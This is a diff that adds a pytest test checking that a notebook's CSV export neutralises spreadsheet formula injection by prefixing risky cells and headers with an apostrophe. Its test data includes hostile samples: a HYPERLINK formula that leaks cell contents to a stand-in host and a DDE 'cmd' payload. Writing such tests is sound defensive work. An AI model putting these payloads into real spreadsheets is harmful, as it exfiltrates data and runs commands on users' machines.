@@ -269,3 +269,41 @@ def test_report_from_hostile_data_makes_no_request(tmp_path, listener, chromium_
     report_text = visits[0]["text"]
     for name in (names[0], names[1], names[8]):
         assert name in report_text  # shown verbatim, neither image nor link
+
+
+# ---------------------------------------------------------------- 3. no formula runs from tables/*.csv
+
+
+def test_saved_tables_cannot_run_spreadsheet_formulas(tmp_path, monkeypatch):
+    import csv
+
+    import pandas as pd
+
+    from revops_nb.record import RUN_DIR_ENV, save_table
+
+    monkeypatch.setenv(RUN_DIR_ENV, str(tmp_path))
+    owners = [
+        '=HYPERLINK("http://x/?leak="&A1,"click")',
+        "+1+1",
+        "-1+1",
+        "@SUM(A1:A9)",
+        "\tx",
+        "=cmd|' /C calc'!A0",
+    ]
+    frame = pd.DataFrame(
+        {
+            "owner": [*owners, "-5", "Ann", None],
+            "won": [-5, 0, 1, 2, 3, 4, 5, 6, 7],
+            "share": [-0.5] * 9,
+            "region": pd.Categorical(["=1+2"] * 9),
+        }
+    )
+    frame[frame["region"].iloc[0]] = 1  # a header that comes from the data
+    save_table(frame, "owners")
+    with (tmp_path / "tables" / "owners.csv").open(newline="") as handle:
+        header, *rows = list(csv.reader(handle))
+    assert header == ["owner", "won", "share", "region", "'=1+2"]
+    assert [row[0] for row in rows] == [*("'" + o for o in owners), "-5", "Ann", ""]
+    assert {row[3] for row in rows} == {"'=1+2"}
+    assert rows[0][1] == "-5" and rows[0][2] == "-0.5"  # numbers stay numbers
+    assert frame["owner"].iloc[0] == owners[0]  # the notebook's own frame is untouched
